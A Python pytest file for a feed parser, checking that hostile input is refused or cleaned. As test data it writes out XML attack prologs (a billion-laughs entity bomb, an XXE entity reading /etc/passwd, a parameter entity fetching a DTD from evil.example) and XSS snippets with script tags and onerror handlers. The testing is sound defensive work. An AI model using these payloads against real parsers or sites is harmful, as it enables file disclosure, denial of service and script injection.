"""The rows "parse" of guarantees.md: bounded, what is whole is kept, stored clean."""

import time
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchdesk.feeds.parse import parse_feed
from watchdesk.feeds.reader import PooledFeedReader
from watchdesk.model.entries import NotAFeed, ParsedEntry, ParsedFeed
from watchdesk.workers.pool import MEBIBYTE, WorkerPool

URL = "https://hostile.example/feed"


def rss(items: str, prolog: str = '<?xml version="1.0"?>') -> bytes:
    return f"{prolog}<rss version='2.0'><channel><title>H</title>{items}</channel></rss>".encode()


def entries(body: bytes, content_type: str | None = None) -> tuple[ParsedEntry, ...]:
    feed = parse_feed(body, content_type, URL)
    assert isinstance(feed, ParsedFeed), feed
    return feed.entries


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>'
IN_A_LITERAL = '<!DOCTYPE r SYSTEM "<!--" [<!ENTITY x "y">]> <!-- -->'
LONG_PROLOG = f"<?xml version='1.0'?><!--{'a' * 300_000}--><!DOCTYPE r [<!ENTITY x 'y'>]>"


@pytest.mark.parametrize(
    "prolog",
    [BILLION_LAUGHS, XXE, PARAMETER, IN_A_LITERAL, LONG_PROLOG],
    ids=["billion laughs", "file", "parameter entity", "hidden behind a literal", "far down"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-32-be"])
def test_a_prolog_with_entities_is_refused(prolog: str, encoding: str) -> None:
    body = rss("<item><title>&c;&x;</title></item>", prolog).decode().encode(encoding)
    answer = parse_feed(body, None, URL)
    assert answer == NotAFeed(
        reason="the document declares entities, which no feed needs and which can blow up its size"
    )


def test_entities_cannot_hide_in_utf_7() -> None:
    body = '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE r [+ADwAIQ-ENTITY x "y">]>' + rss("", "").decode()
    answer = parse_feed(body.encode(), "text/xml; charset=utf-7", URL)
    assert isinstance(answer, NotAFeed) or answer.entries == ()


def test_the_word_entity_in_an_article_is_no_declaration() -> None:
    (entry,) = entries(rss("<item><title>t</title><description><![CDATA[<!ENTITY x 'y'>]]></description></item>"))
    assert entry.title == "t"


def test_an_external_dtd_is_not_loaded() -> None:
    (entry,) = entries(rss("<item><title>t</title></item>", '<!DOCTYPE rss SYSTEM "http://127.0.0.1:1/never.dtd">'))
    assert entry.title == "t"


REFUSED = {
    "nothing": (b"", "the answer is empty"),
    "spaces": (b" \n\t ", "the answer is empty"),
    "a page": (b"<!DOCTYPE html><html><body>Hi</body></html>", "the address gives a web page, not a feed"),
    "a page in capitals": (b"<HTML><HEAD></HEAD></HTML>", "the address gives a web page, not a feed"),
    "gzip": (
        b"\x1f\x8b\x08\x00rest",
        "the answer is a compressed file that is broken, too large or compressed twice",
    ),
    "words": (b"hello", "the address gives neither a feed nor a sitemap: it has no XML element"),
    "other XML": (b"<svg><g/></svg>", "the address gives neither a feed nor a sitemap: its outermost element is <svg>"),
    "an index of nothing": (
        b"<sitemapindex><sitemap><loc>https://other.example/1.xml</loc></sitemap></sitemapindex>",
        "the address gives an index of sitemaps that names none of its own host",
    ),
    "other JSON": (b'{"a": 1}', "the address gives JSON, but not a JSON Feed"),
    "broken JSON": (b'{"items": [', "the address gives JSON that is not well-formed"),
    "deep JSON": (b'{"items": ' + b"[" * 100_000, "the address gives JSON that is not well-formed"),
    "a file name": (b"/etc/passwd", "the address gives neither a feed nor a sitemap: it has no XML element"),
    "an address": (b"http://127.0.0.1:1/", "the address gives neither a feed nor a sitemap: it has no XML element"),
}


@pytest.mark.parametrize("body, reason", REFUSED.values(), ids=REFUSED)
def test_what_is_no_feed_is_refused_with_a_true_sentence(body: bytes, reason: str) -> None:
    assert parse_feed(body, None, URL) == NotAFeed(reason=reason)


def test_a_feed_under_an_html_doctype_is_a_feed() -> None:
    (entry,) = entries(rss("<item><title>t</title></item>", "<!DOCTYPE html>"))
    assert entry.title == "t"


@pytest.mark.parametrize("charset", ["undefined", "rot13", "no-such", "x\0y", "idna", "punycode", "utf-16"])
def test_a_charset_that_is_none_does_not_matter(charset: str) -> None:
    prolog = f'<?xml version="1.0" encoding="{charset}"?>'
    (entry,) = entries(rss("<item><title>Día</title></item>", prolog), f"text/xml; charset={charset}")
    assert entry.title == "Día"


CHARSETS = {
    "Windows-1252 that says UTF-8": ("Día – “x”".encode("cp1252"), "utf-8", None, "Día – “x”"),
    "UTF-8 that says Latin-1": ("Día".encode(), "iso-8859-1", None, "Día"),
    "only the header knows": ("Привет".encode("cp1251"), "", "text/xml; charset=windows-1251", "Привет"),
    "Shift JIS": ("会談".encode("shift_jis"), "Shift_JIS", None, "会談"),
    "ISO-2022-JP": ("会談".encode("iso2022_jp"), "ISO-2022-JP", None, "会談"),
    "one stray byte": (b"caf\xe9 \xc3\xa9t\xc3\xa9", "utf-8", None, "caf� été"),
}


@pytest.mark.parametrize("title, said, header, expected", CHARSETS.values(), ids=CHARSETS)
def test_wrong_charsets_are_seen_through(title: bytes, said: str, header: str | None, expected: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{said}"?>' if said else "<?xml version='1.0'?>"
    body = (
        declaration.encode() + b"<rss version='2.0'><channel><item><title>" + title + b"</title></item></channel></rss>"
    )
    (entry,) = entries(body, header)
    assert entry.title == expected


def test_controls_surrogates_and_overrides_do_not_come_in() -> None:
    title = "A\x00B\x1b[31mC&#0;&#x1b;&#xD800;\u202eevil\u2066\ufeff\u0085&#x202E;D"
    (entry,) = entries(rss(f"<item><title>{title}</title><description>{title}</description></item>"))
    for text in (entry.title, entry.summary):
        assert not [char for char in text if unicodedata.category(char) in {"Cc", "Cs"} and char != "\n"]
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")
        text.encode()


def test_direction_marks_of_real_urdu_stay() -> None:
    (entry,) = entries(rss("<item><title>وزیر\u200f خارجہ\u200c کی</title></item>"))
    assert entry.title == "وزیر\u200f خارجہ\u200c کی"


@pytest.mark.parametrize(
    "date, expected",
    [
        ("Tue, 01 Jan 0001 00:00:00 +1400", None),
        ("9999-12-31T23:59:59-12:00", None),
        ("-0001-01-01T00:00:00Z", None),
        ("1989-12-31T23:59:59Z", None),
        ("99999999999999999999", None),
        ("Mon, 04 Mar 2030 10:00:00 GMT", datetime(2030, 3, 4, 10, tzinfo=UTC)),
        ("2030-03-04T10:00:00+05:30", datetime(2030, 3, 4, 4, 30, tzinfo=UTC)),
    ],
)
def test_an_impossible_date_is_left_out_and_counted(date: str, expected: datetime | None) -> None:
    feed = parse_feed(rss(f"<item><title>t</title><pubDate>{date}</pubDate></item>"), None, URL)
    assert isinstance(feed, ParsedFeed)
    assert feed.entries[0].published_at == expected
    assert bool(feed.problems) == (expected is None)


def test_fifty_thousand_entries_give_the_first_five_thousand_within_the_limit() -> None:
    body = rss("".join(f"<item><title>t{n}</title><link>/{n}</link></item>" for n in range(50_000)))
    started = time.process_time()
    feed = parse_feed(body, None, URL)
    assert isinstance(feed, ParsedFeed)
    assert time.process_time() - started < 3
    assert len(feed.entries) == 5000
    assert feed.entries[-1].title == "t4999"
    assert feed.problems == ("the feed has more than 5000 entries: the rest is not read",)


@pytest.mark.parametrize("root", ["atom", "sitemap", "json"])
def test_every_format_stops_at_five_thousand(root: str) -> None:
    bodies = {
        "atom": '<feed xmlns="http://www.w3.org/2005/Atom">' + "<entry><title>t</title></entry>" * 6000 + "</feed>",
        "sitemap": "<urlset>" + "<url><loc>https://a.example/1</loc></url>" * 6000 + "</urlset>",
        "json": '{"items": [' + ",".join(['{"title": "t"}'] * 6000) + "]}",
    }
    assert len(entries(bodies[root].encode())) == 5000


def test_a_title_of_a_megabyte_is_cut_at_64_kib() -> None:
    feed = parse_feed(rss(f"<item><title>{'é' * 1_000_000}</title><link>/1</link></item>"), None, URL)
    assert isinstance(feed, ParsedFeed)
    assert len(feed.entries[0].title.encode()) == 65_536
    assert feed.problems == ("1 entry: the title is longer than 64 KiB and was cut",)


MARKUP = {
    "script": ("<script>alert(1)</script><p>x</p>", "x"),
    "style": ("<style>p{}</style>x", "x"),
    "handlers": ('<img src=x onerror="alert(1)">x', "x"),
    "comment": ("<!-- no -->x", "x"),
    "blocks": ("<div>a</div><div>b<br/>c</div><ul><li>d</li></ul>", "a\nb\nc\nd"),
    "inline": ("a<b>b</b>c <i>d</i>", "abc d"),
    "less than": ("1 &lt; 2 &amp;&amp; 3", "1 < 2 && 3"),
    "unclosed": ("<p>a<p>b<a href='", "a\nb"),
}


@pytest.mark.parametrize("markup, plain", MARKUP.values(), ids=MARKUP)
def test_markup_becomes_plain_paragraphs(markup: str, plain: str) -> None:
    (entry,) = entries(rss(f"<item><title>t</title><description><![CDATA[{markup}]]></description></item>"))
    assert entry.summary == plain


TITLES = {
    "escaped twice": ("Tom &amp;amp;amp; Ann", "Tom & Ann"),
    "a number": ("It&amp;#8217;s", "It’s"),
    "tags": ("&lt;b&gt;Big&lt;/b&gt; news&lt;br&gt;now", "Big news now"),
    "a tag one talks about": ("Why &lt;iframe&gt; is bad", "Why <iframe> is bad"),
    "lines": ("a\n   b\t c", "a b c"),
    "ampersand": ("AT&amp;T", "AT&T"),
    "a bare ampersand": ("Q & A", "Q & A"),
}


@pytest.mark.parametrize("title, plain", TITLES.values(), ids=TITLES)
def test_titles_are_plain(title: str, plain: str) -> None:
    (entry,) = entries(rss(f"<item><title>{title}</title></item>"))
    assert entry.title == plain


def test_a_style_bomb_costs_no_time() -> None:
    bomb = "url(" * 20_000
    started = time.process_time()
    entries(rss(f'<item><title>t</title><description>&lt;p style="{bomb}"&gt;x&lt;/p&gt;</description></item>'))
    assert time.process_time() - started < 2


def test_deep_markup_costs_no_time() -> None:
    deep = "&lt;div&gt;" * 60_000
    started = time.process_time()
    entries(rss(f"<item><title>t</title><description>{deep}x</description></item>"))
    assert time.process_time() - started < 2


def test_a_full_text_in_the_description_is_the_content() -> None:
    (entry,) = entries(rss(f"<item><title>t</title><description>{'word ' * 1500}</description></item>"))
    assert (entry.summary, len(entry.content.split())) == ("", 1500)


BROKEN = rss("".join(f"<item><title>Title {n}</title><link>/{n}</link><guid>g{n}</guid></item>" for n in range(20)))


@settings(max_examples=60, deadline=None)
@given(st.integers(0, len(BROKEN)))
def test_a_feed_cut_anywhere_keeps_what_is_whole(length: int) -> None:
    feed = parse_feed(BROKEN[:length], None, URL)
    whole = BROKEN[:length].count(b"</item>")
    if isinstance(feed, ParsedFeed):
        assert len(feed.entries) >= whole
        assert [entry.title for entry in feed.entries[:whole]] == [f"Title {n}" for n in range(whole)]
    else:
        assert whole == 0


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(BROKEN) - 1), st.binary(min_size=1, max_size=12))
def test_a_feed_with_rubbish_in_it_never_raises(place: int, rubbish: bytes) -> None:
    answer = parse_feed(BROKEN[:place] + rubbish + BROKEN[place + len(rubbish) :], None, URL)
    assert isinstance(answer, ParsedFeed | NotAFeed)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300), st.sampled_from(["title", "description", "pubDate", "link", "guid", "author"]))
def test_any_text_in_any_field_comes_out_clean(text: str, name: str) -> None:
    body = rss(f"<item><title>t</title><{name}><![CDATA[{text}]]></{name}></item>").decode(errors="replace").encode()
    feed = parse_feed(body, None, URL)
    assert isinstance(feed, ParsedFeed)
    for entry in feed.entries:
        for field in (entry.title, entry.summary, entry.guid or "", entry.url or ""):
            assert not [char for char in field if unicodedata.category(char) in {"Cc", "Cs"} and char != "\n"]
        assert entry.url is None or entry.url.startswith(("http://", "https://"))


async def test_the_reader_reads_in_a_worker_and_translates_its_deaths() -> None:
    pool = WorkerPool(size=1, memory=64 * MEBIBYTE, cpu=timedelta(seconds=0.2))
    reader = PooledFeedReader(pool)
    good = await reader.read_feed(rss("<item><title>t</title></item>"), content_type="text/xml", url=URL)
    slow = rss(
        "".join(f"<item><title>{n} &nbsp; x</title><description>&lt;p&gt;</description></item>" for n in range(5000))
    )
    bad = await reader.read_feed(slow.removesuffix(b"</rss>"), content_type=None, url=URL)
    page = b'<html><link rel="alternate" type="application/rss+xml" href="/rss"></html>'
    named = await reader.discover_feeds(page, content_type="text/html", url=URL)
    await pool.close()
    assert isinstance(good, ParsedFeed)
    assert bad == NotAFeed(reason="the feed could not be parsed: it took more than 0.2 s of CPU time")
    assert named == ("https://hostile.example/rss",)
